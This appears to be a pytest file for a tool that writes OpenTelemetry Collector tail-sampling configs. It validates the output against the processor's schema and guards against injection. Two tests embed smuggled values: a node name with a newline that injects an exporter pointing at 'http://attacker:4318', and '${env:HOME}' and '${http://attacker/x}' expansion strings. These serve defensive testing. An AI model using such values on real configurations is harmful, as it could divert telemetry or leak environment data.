"""The tail_sampling config that `sloscope sampling tail-config` writes, against the OpenTelemetry Collector
processor's documented schema; written atomically, and by the command from a database."""

import http.server
import json
import re
import subprocess
import sys
import threading

import pytest
import yaml

from sloscope.analytics.store import Store
from sloscope.commands.cli import main
from sloscope.sampling.observations import Observations, Sli
from sloscope.sampling.config import SamplingConfig
from sloscope.sampling.policy import SamplingPolicy
from sloscope.sampling.tail_sampling import render, to_yaml, write_atomic
from sloscope.slo_spec import parse_spec
from tests.sampling.test_sampling import CRIT, HEADER, SPEC, STD, T0, _walk, steady, write_requests

# The processor's configuration, transcribed from its README and config.go (otelcol-contrib
# processor/tailsamplingprocessor): top-level options, and per policy type the fields of its block.

TOP_LEVEL = {"decision_wait": str, "num_traces": int, "expected_new_traces_per_sec": int, "decision_cache": dict,
             "sample_on_first_match": bool, "drop_pending_traces_on_shutdown": bool, "policies": list}
POLICY_FIELDS = {
    "always_sample": {},
    "latency": {"threshold_ms": int, "upper_threshold_ms": int},
    "numeric_attribute": {"key": str, "min_value": int, "max_value": int, "invert_match": bool},
    "probabilistic": {"hash_salt": str, "sampling_percentage": (int, float)},
    "status_code": {"status_codes": list},
    "string_attribute": {"key": str, "values": list, "enabled_regex_matching": bool, "cache_max_size": int,
                         "invert_match": bool},
    "rate_limiting": {"spans_per_second": int},
    "span_count": {"min_spans": int, "max_spans": int},
    "trace_state": {"key": str, "values": list},
    "boolean_attribute": {"key": str, "value": bool},
    "ottl_condition": {"error_mode": str, "span": list, "spanevent": list},
}
SHARED_TYPES = set(POLICY_FIELDS)  # what and_sub_policy (and composite_sub_policy) may hold
TOP_TYPES = SHARED_TYPES | {"and", "composite", "drop"}
STATUS_CODES = {"OK", "ERROR", "UNSET"}
DURATION = re.compile(r"^\d+(ns|us|ms|s|m|h)$")


def validate_policy(policy, allowed, where):
    assert isinstance(policy, dict), where
    assert isinstance(policy.get("name"), str) and policy["name"], f"{where}: name"
    kind = policy.get("type")
    assert kind in allowed, f"{where}: type {kind!r}"
    extra = set(policy) - {"name", "type", kind}
    assert not extra, f"{where}: keys {extra} beside the {kind} block"
    if kind == "and":
        subs = policy["and"]["and_sub_policy"]
        assert set(policy["and"]) == {"and_sub_policy"} and subs, where
        names = [validate_policy(s, SHARED_TYPES, f"{where}/{i}") for i, s in enumerate(subs)]
        assert len(names) == len(set(names)), f"{where}: duplicate sub-policy names"
        return policy["name"]
    block = policy.get(kind, {})
    assert isinstance(block, dict), where
    for key, value in block.items():
        assert key in POLICY_FIELDS[kind], f"{where}: {kind}.{key} is not a field"
        assert isinstance(value, POLICY_FIELDS[kind][key]) and not (
            isinstance(value, bool) and POLICY_FIELDS[kind][key] in (int, (int, float))), f"{where}: {kind}.{key}"
    if kind == "probabilistic":
        assert 0 <= block["sampling_percentage"] <= 100, where
    if kind == "status_code":
        assert block["status_codes"] and set(block["status_codes"]) <= STATUS_CODES, where
    if kind == "string_attribute":
        assert block["key"] and block["values"] and all(isinstance(v, str) and v for v in block["values"]), where
        assert not block.get("enabled_regex_matching"), f"{where}: values are matched exactly"
    if kind == "latency":
        assert block["threshold_ms"] >= 0, where
    return policy["name"]


def validate_tail_config(text):
    doc = yaml.safe_load(text)
    assert set(doc) == {"processors"} and set(doc["processors"]) == {"tail_sampling"}
    ts = doc["processors"]["tail_sampling"]
    for key, value in ts.items():
        assert key in TOP_LEVEL and isinstance(value, TOP_LEVEL[key]), key
    assert DURATION.match(ts["decision_wait"]) and ts["num_traces"] > 0 and ts["policies"]
    names = [validate_policy(p, TOP_TYPES, f"policies/{i}") for i, p in enumerate(ts["policies"])]
    assert len(names) == len(set(names)), "duplicate policy names"
    return ts


@pytest.mark.parametrize("case", ["quiet", "hot-critical", "hot-default", "hot-node", "single-tier"])
def test_the_tail_sampling_config_follows_the_processors_schema(case, tmp_path):
    spec = parse_spec("default_tier: only\ntiers:\n  only: {latency: {percentile: 90, threshold_ms: 250.5}, "
                      "availability: 99}\n") if case == "single-tier" else SPEC
    default = spec.default_tier
    traffic = {(t, svc, "/r"): 6000 for t in spec.tiers for svc in ("llm-gateway", "embedder", "we'ird: {svc}")}
    tiers = {t: Sli(100, 0, 10.0) for t in spec.tiers}
    if case == "hot-critical":
        tiers[CRIT] = Sli(100, 50, 10.0)
    if case == "hot-default":
        tiers[default] = Sli(100, 0, 5000.0)
    nodes = {"gpu-node-3": Sli(100, 60)} if case == "hot-node" else {}
    doc = SamplingPolicy(spec, SamplingConfig(budget_spans_per_s=50)).evaluate(
        Observations(T0, 60, traffic, tiers, nodes))
    ts = validate_tail_config(to_yaml(render(doc), doc))
    policies = {p["name"]: p for p in ts["policies"]}
    assert policies["errors"]["status_code"]["status_codes"] == ["ERROR"]
    slow = [p for p in ts["policies"] if p["name"].startswith("slow-")]
    thresholds = {s["latency"]["threshold_ms"] for p in slow for s in _walk([p]) if s["type"] == "latency"}
    assert thresholds == {int(t.threshold_ms) for t in spec.tiers.values()}
    rates = [s for p in ts["policies"] for s in _walk([p]) if s["type"] == "probabilistic"]
    assert rates and len({s["probabilistic"]["hash_salt"] for s in rates}) == 1
    hot = [p for p in ts["policies"] if p["name"].startswith("hot-")]
    if case == "quiet" or case == "single-tier":
        assert not hot
    if case == "hot-critical":
        assert {(p["string_attribute"]["key"], tuple(p["string_attribute"]["values"])) for p in hot} == {
            ("slo.tier", (CRIT,)), (HEADER, (CRIT,))}
        assert not any(CRIT in p["name"] for p in ts["policies"] if p["name"].startswith("rate-"))
    if case == "hot-default":
        (p,) = hot
        assert [s["string_attribute"]["invert_match"] for s in p["and"]["and_sub_policy"]] == [True, True]
    if case == "hot-node":
        assert {p["string_attribute"]["key"] for p in hot} == {"k8s.node.name", "host.name"}
    if case == "single-tier":
        assert all(s["type"] != "string_attribute" or s["string_attribute"]["key"] == "service.name"
                   for s in _walk(ts["policies"]))


def test_the_tail_config_is_written_atomically_and_by_the_cli(tmp_path):
    out = tmp_path / "otel" / "sampling.yaml"
    assert write_atomic(out, "a: 1\n") and out.read_text() == "a: 1\n"
    assert not write_atomic(out, "a: 1\n")  # unchanged: not rewritten, so a reloader does not reload
    assert write_atomic(out, "a: 2\n") and out.read_text() == "a: 2\n"
    assert [p.name for p in out.parent.iterdir()] == ["sampling.yaml"]  # no temporary file left behind
    store = Store(tmp_path / "s.duckdb")
    write_requests(store, steady(T0, 60, 20, "llm-gateway", "n1", [STD]) +
                   steady(T0, 60, 5, "llm-gateway", "n2", [CRIT], ms=3000))
    store.close()
    result = subprocess.run([sys.executable, "-m", "sloscope.commands.cli", "sampling", "tail-config", "--db",
                             str(tmp_path / "s.duckdb"), "--at", "latest", "-o", str(out)],
                            capture_output=True, text=True, timeout=120)
    assert result.returncode == 0, result.stderr
    ts = validate_tail_config(out.read_text())
    assert any(p["name"] == "hot-tiers-slo.tier" for p in ts["policies"])
    assert "hot tiers p99-latency-critical" in result.stderr


# How the Collector reads the file back: gopkg.in/yaml.v3 resolves plain scalars by the YAML 1.2 core schema, then
# confmap expands `${...}` in every string and turns `$$` into `$`.
YAML12_NOT_A_STRING = re.compile(r"true|True|TRUE|false|False|FALSE|~|null|Null|NULL|[-+]?[0-9]+|0o[0-7]+|"
                                 r"0x[0-9a-fA-F]+|[-+]?(\.[0-9]+|[0-9]+(\.[0-9]*)?)([eE][-+]?[0-9]+)?|"
                                 r"[-+]?\.(inf|Inf|INF)|\.(nan|NaN|NAN)")


def plain_strings(node):
    """The unquoted scalars that PyYAML (YAML 1.1) reads as strings."""
    if isinstance(node, yaml.ScalarNode):
        return [node.value] if node.style is None and node.tag == "tag:yaml.org,2002:str" else []
    children = [v for kv in node.value for v in kv] if isinstance(node, yaml.MappingNode) else node.value
    return [value for child in children for value in plain_strings(child)]


def as_the_collector_reads(text: str) -> str:
    out, i = [], 0
    while i < len(text):
        assert not text.startswith("${", i), f"{text!r}: the Collector would expand {text[i:]!r}"
        out.append("$" if text.startswith("$$", i) else text[i])
        i += 2 if text.startswith("$$", i) else 1
    return "".join(out)


def policy_with(services, hot_nodes):
    tiers = {t: Sli(100, 0, 10.0) for t in SPEC.tiers}
    return SamplingPolicy(SPEC, SamplingConfig(budget_spans_per_s=50)).evaluate(
        Observations(T0, 60, {(STD, svc, "/r"): 6000 for svc in services}, tiers,
                     {node: Sli(100, 60) for node in hot_nodes}))


def test_a_hot_node_name_cannot_write_configuration_through_the_header():
    evil = "gpu-1\nexporters:\n  otlphttp/elsewhere: {endpoint: 'http://attacker:4318'}\n#"
    doc = policy_with(["llm-gateway"], [evil, "gpu-2\u2028x", "gpu-3\rx"])
    text = to_yaml(render(doc), doc)
    header = text[:text.index("\nprocessors:\n") + 1]
    assert header.count("\n") == 5 and all(line.startswith("# ") for line in header.splitlines())
    assert "gpu-1\\nexporters:" in header and "\u2028" not in header
    ts = validate_tail_config(text)  # nothing but processors.tail_sampling
    hot = next(p for p in ts["policies"] if p["name"] == "hot-nodes-k8s.node.name")
    assert set(hot["string_attribute"]["values"]) == {evil, "gpu-2\u2028x", "gpu-3\rx"}


def test_names_from_telemetry_reach_the_collector_as_they_were():
    odd = ["${env:HOME}", "${http://attacker/x}", "pay$ment", "$$", "1e3", "0o17", "0x1F", "+12", ".inf", "null",
           "yes", "True", "~", "a: b", "- x", "#x", "é-svc", "llm-gateway"]
    doc = policy_with(odd, ["1e5", "gpu-node-3"])
    text = to_yaml(render(doc), doc)
    ts = validate_tail_config(text)
    assert not [v for v in plain_strings(yaml.compose(text)) if YAML12_NOT_A_STRING.fullmatch(v)]
    values = {as_the_collector_reads(v) for p in _walk(ts["policies"]) if p["type"] == "string_attribute"
              for v in p["string_attribute"]["values"]}
    assert set(odd) | {"1e5", "gpu-node-3"} <= values
    assert "- name: errors" in text and "type: status_code" in text, "plain words stay plain"


class _JsonAnswer(http.server.BaseHTTPRequestHandler):
    body = json.dumps({"incidents": [], "generated_at": "2025-11-29T10:00:00Z"}).encode()

    def do_GET(self):
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(self.body)))
        self.end_headers()
        self.wfile.write(self.body)

    def log_message(self, *args):
        pass


def test_a_url_that_answers_other_json_is_one_line_not_a_traceback(capsys):
    server = http.server.HTTPServer(("127.0.0.1", 0), _JsonAnswer)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        url = f"http://127.0.0.1:{server.server_address[1]}/rca"
        for command in ("tail-config", "policy"):
            assert main(["sampling", command, "--url", url]) == 2
            err = capsys.readouterr().err
            assert err.count("\n") == 1 and f"--url {url}: " in err and "not a sampling policy" in err, err
    finally:
        server.shutdown()
        server.server_close()
